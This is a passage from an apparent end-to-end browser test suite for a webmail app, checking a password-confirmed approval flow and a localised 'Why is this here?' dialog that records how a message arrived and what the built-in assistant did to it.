	await other.locator('.dialog input[type=password]').fill(suite.user(2).password);
	await other.keyboard.press('Enter');
	await alone.locator('.approval-result', { hasText: 'Sent.' }).waitFor();
	await card.locator('.approval-result', { hasText: 'Sent.' }).waitFor();
	assert.equal(posts, 2);
	await other.context().close();
	await page.context().close();
});

test('why is this here? is told in words: how it came, and what the assistant did to it', async () => {
	const [carol, bob] = [2, 1].map(n => suite.user(n).address);
	await submit(suite, 1, [2], message({ from: `Bob Hill <${bob}>`, to: carol, subject: 'A riddle' }));
	for (const [locale, said] of [
		[
			'en-GB',
			[
				'Why is this here?',
				/Sent by a user of this server, over an encrypted connection/,
				/Put into Inbox/,
				/Marked: with a star, by the assistant/,
				/Moved to Archive, by the assistant/,
			],
		],
		[
			'fr-FR',
			[
				'Pourquoi est-ce ici ?',
				/Envoyé par un utilisateur de ce serveur, par une connexion chiffrée/,
				/Rangé dans Réception/,
				/Marqué.: étoile, par l’assistant/,
				/Déplacé vers Archives, par l’assistant/,
			],
		],
	]) {
		const page = await as(b, suite, 2, { locale });
		if (locale === 'en-GB') {
			await row(page, 'A riddle').waitFor();
			await open(page);
			await page.locator('.assistant-welcome .idea:not([disabled])').first().waitFor();
			await ask(page, 'Star the mail about riddle');
			await ask(page, 'Archive the mail about riddle');
			await page.keyboard.press('Escape');
		}
		await page.goto(`${suite.base}/#/in/archive`);
		await row(page, 'A riddle').click();
		await page.locator('.message.open .message-head .menu button').click();
		await page.getByRole('menuitem', { name: said[0] }).click();
		const steps = page.locator('.dialog.why .step');
		for (const text of said.slice(1)) await steps.filter({ hasText: text }).waitFor();
		assert.deepEqual(await axe(page, `why ${locale}`), []);
		await shot(page, `why-${locale.slice(0, 2)}`);
		await page.keyboard.press('Escape');
		await until(async () => !(await page.locator('.dialog').count()), 'closing it');
		assert.deepEqual(page.said, []);
		await page.context().close();
	}
});
